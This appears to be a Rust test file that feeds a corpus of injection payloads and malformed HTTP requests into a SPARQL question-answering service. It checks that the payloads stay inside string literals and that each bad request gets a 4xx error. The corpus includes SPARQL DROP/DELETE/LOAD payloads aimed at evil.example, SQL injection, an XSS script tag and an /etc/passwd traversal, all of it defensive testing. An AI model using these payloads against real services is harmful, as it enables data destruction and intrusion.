//! Hostile input through the front door: a corpus of injection payloads inside questions
//! (no payload may reach a query outside a string literal, and the store is unchanged), and
//! a corpus of malformed HTTP requests (each a 4xx JSON error, never a 5xx).

use serde_json::Value;

use crate::helpers::{spawn_app, TestApp};

/// A marker no template contains: wherever it shows up in a query, a payload put it there.
const MARKER: &str = "zqx9marker";

/// Injection payloads; each is sent with the marker inside it.
const PAYLOADS: &[&str] = &[
    "\" } . ?s ?p ?o } #",
    "\") || true || (\"",
    "\\\" UNION { ?a ?b ?c }",
    "\"\"\" triple quotes",
    "''' single triple",
    "x\" . } DROP ALL ; SELECT * WHERE { \"",
    "} INSERT DATA { <http://x> <http://x> <http://x> } #",
    "DELETE WHERE { ?s ?p ?o }",
    "CLEAR DEFAULT",
    "LOAD <http://evil.example/x.nt>",
    "SERVICE <http://evil.example/sparql> { ?s ?p ?o }",
    "<http://evil.example/> ?p ?o",
    "?s ?p ?o",
    "# comment out the rest",
    "\n} LIMIT 1 #",
    "\r\n\r\n",
    "\\u0022 escaped quote",
    "\\\\\" backslashes",
    "%22 url encoded",
    "&#34; html entity",
    "FILTER(true)",
    "BIND(1 AS ?x)",
    "VALUES ?x { 1 }",
    "OPTIONAL { ?s ?p ?o }",
    "MINUS { ?s ?p ?o }",
    "{{limit}} {{method}}",
    "$limit ${method}",
    "PREFIX x: <http://x/>",
    "BASE <http://evil/>",
    "a orkgc:Paper",
    "rdfs:label ?x",
    "orkgp:P31 ?c",
    "(.*)+$",
    "[a-z]{2,}\\b",
    "^(a|a)*$",
    "regex(\"",
    "\")) . } } } } }",
    "{{{{{{{{",
    "}}}}}}}}",
    "' OR '1'='1",
    "\"; DROP TABLE papers; --",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "\u{0}\u{1}\u{7f} control",
    "\u{202e} right-to-left override",
    "\u{feff} byte order mark",
    "emoji 🔥🧪 and 中文",
    "\u{2028} line separator",
    "ＳＥＬＥＣＴ fullwidth",
    "NER",
    "a\"b'c`d",
    "x' UNION SELECT * WHERE { ?s ?p ?o } #",
];

/// `text` with every string literal replaced by "" (oxrdf writes literals in double
/// quotes, with quotes, backslashes and line breaks escaped).
fn outside_literals(sparql: &str) -> String {
    let literal = regex::Regex::new(r#""(?:[^"\\]|\\.)*""#).expect("literal pattern");
    literal.replace_all(sparql, "\"\"").into_owned()
}

#[test]
fn blanking_literals_keeps_the_query_and_drops_the_strings() {
    let q = r#"SELECT ?s WHERE { ?s ?p "a \" } DROP" . FILTER(CONTAINS(?l, "x")) }"#;
    assert_eq!(outside_literals(q), r#"SELECT ?s WHERE { ?s ?p "" . FILTER(CONTAINS(?l, "")) }"#);
}

async fn ask(app: &TestApp, question: &str) -> (u16, Value) {
    let response = app.client.post(format!("{}/ask", app.address)).json(&serde_json::json!({ "question": question })).send().await.unwrap();
    let status = response.status().as_u16();
    (status, response.json().await.unwrap_or(Value::Null))
}

#[tokio::test]
async fn no_payload_reaches_a_query_outside_a_literal_and_the_store_is_unchanged() {
    assert!(PAYLOADS.len() >= 50);
    let app = spawn_app(&[]).await;
    let triples = app.health().await["kg"]["triples"].clone();
    let templates = [
        "Which papers use the {} model?",
        "What models are evaluated on the {} dataset?",
        "Find the paper titled \"{}\"",
        "Does {} outperform BERT on SQuAD1.1?",
        "{}",
    ];
    let mut queries_checked = 0;
    for payload in PAYLOADS {
        for template in templates {
            let question = template.replace("{}", &format!("{MARKER} {payload} {MARKER}"));
            let (status, body) = ask(&app, &question).await;
            assert_eq!(status, 200, "{question:?}: {body}");
            for query in body["sparql_queries"].as_array().unwrap() {
                let sparql = query["sparql"].as_str().unwrap();
                let bare = outside_literals(sparql);
                assert!(bare.contains("SELECT"), "blanking must keep the query: {bare}");
                assert!(!bare.contains(MARKER), "payload escaped its literal in {}:\n{sparql}", query["strategy"]);
                let upper = bare.to_uppercase();
                for keyword in ["INSERT", "DELETE", "DROP", "CLEAR", "LOAD", "SERVICE", "CREATE"] {
                    assert!(!upper.contains(keyword), "{keyword} outside a literal:\n{sparql}");
                }
                queries_checked += 1;
            }
        }
    }
    assert!(queries_checked > PAYLOADS.len());
    // Nothing was written, and the service is still healthy.
    let health = app.health().await;
    assert_eq!(health["kg"]["triples"], triples);
    assert_eq!(health["status"], "ok");
}

async fn raw(app: &TestApp, method: reqwest::Method, path: &str, content_type: Option<&str>, body: Vec<u8>) -> (u16, Value) {
    let mut request = app.client.request(method, format!("{}{path}", app.address)).body(body);
    if let Some(ct) = content_type {
        request = request.header("content-type", ct);
    }
    let response = request.send().await.unwrap();
    let status = response.status().as_u16();
    (status, response.json().await.unwrap_or(Value::Null))
}

#[tokio::test]
async fn every_malformed_request_gets_a_json_4xx_and_the_service_stays_healthy() {
    use reqwest::Method;
    let app = spawn_app(&[("SCIGRAPH_BODY_LIMIT", "8192")]).await;
    let json = Some("application/json");
    let deep = format!("{}{}", "[".repeat(5000), "]".repeat(5000));
    let deep_object = format!("{{\"question\": {}\"x\"{}}}", "{\"a\":".repeat(200), "}".repeat(200));
    let huge = format!("{{\"question\": \"{}\"}}", "q".repeat(20_000));
    let long_question = format!("{{\"question\": \"{}\"}}", "word ".repeat(300));
    // (name, method, path, content type, body)
    type Case<'a> = (&'a str, Method, &'a str, Option<&'a str>, Vec<u8>);
    let cases: Vec<Case> = vec![
        ("truncated JSON", Method::POST, "/ask", json, b"{\"question\": \"a".to_vec()),
        ("trailing garbage", Method::POST, "/ask", json, b"{\"question\": \"a\"} junk".to_vec()),
        ("single quotes", Method::POST, "/ask", json, b"{'question': 'a'}".to_vec()),
        ("bare string", Method::POST, "/ask", json, b"\"a question\"".to_vec()),
        ("number body", Method::POST, "/ask", json, b"42".to_vec()),
        ("null body", Method::POST, "/ask", json, b"null".to_vec()),
        ("empty object", Method::POST, "/ask", json, b"{}".to_vec()),
        ("wrong key", Method::POST, "/ask", json, b"{\"q\": \"a\"}".to_vec()),
        ("question is null", Method::POST, "/ask", json, b"{\"question\": null}".to_vec()),
        ("question is a number", Method::POST, "/ask", json, b"{\"question\": 1}".to_vec()),
        ("question is a bool", Method::POST, "/ask", json, b"{\"question\": true}".to_vec()),
        ("question is an array", Method::POST, "/ask", json, b"{\"question\": [\"a\"]}".to_vec()),
        ("question is an object", Method::POST, "/ask", json, b"{\"question\": {\"a\": 1}}".to_vec()),
        ("question is empty", Method::POST, "/ask", json, b"{\"question\": \"\"}".to_vec()),
        ("question is whitespace", Method::POST, "/ask", json, b"{\"question\": \" \\n\\t \"}".to_vec()),
        ("question too long", Method::POST, "/ask", json, long_question.into_bytes()),
        ("body over the limit", Method::POST, "/ask", json, huge.into_bytes()),
        ("deeply nested arrays", Method::POST, "/ask", json, deep.into_bytes()),
        ("deeply nested question", Method::POST, "/ask", json, deep_object.into_bytes()),
        ("invalid UTF-8", Method::POST, "/ask", json, b"{\"question\": \"\xc3\x28\"}".to_vec()),
        ("lone surrogate escape", Method::POST, "/ask", json, b"{\"question\": \"\\ud800\"}".to_vec()),
        ("empty body", Method::POST, "/ask", json, Vec::new()),
        ("text/plain", Method::POST, "/ask", Some("text/plain"), b"{\"question\": \"a\"}".to_vec()),
        ("form encoded", Method::POST, "/ask", Some("application/x-www-form-urlencoded"), b"question=a".to_vec()),
        ("multipart", Method::POST, "/ask", Some("multipart/form-data; boundary=x"), b"--x--".to_vec()),
        ("xml", Method::POST, "/ask", Some("application/xml"), b"<question>a</question>".to_vec()),
        ("no content type", Method::POST, "/ask", None, b"{\"question\": \"a\"}".to_vec()),
        ("GET /ask", Method::GET, "/ask", None, Vec::new()),
        ("PUT /ask", Method::PUT, "/ask", json, b"{\"question\": \"a\"}".to_vec()),
        ("DELETE /ask", Method::DELETE, "/ask", None, Vec::new()),
        ("PATCH /ask", Method::PATCH, "/ask", json, b"{}".to_vec()),
        ("POST /health", Method::POST, "/health", json, b"{}".to_vec()),
        ("unknown path", Method::POST, "/ask/extra", json, b"{\"question\": \"a\"}".to_vec()),
        ("path traversal", Method::GET, "/../../etc/passwd", None, Vec::new()),
    ];
    assert!(cases.len() >= 30);
    for (name, method, path, content_type, body) in cases {
        let (status, json) = raw(&app, method, path, content_type, body).await;
        assert!((400..500).contains(&status), "{name}: got {status} {json}");
        assert!(json["error"]["code"].as_str().is_some_and(|c| !c.is_empty()), "{name}: no JSON error: {json}");
    }
    assert_eq!(app.health().await["status"], "ok");
}
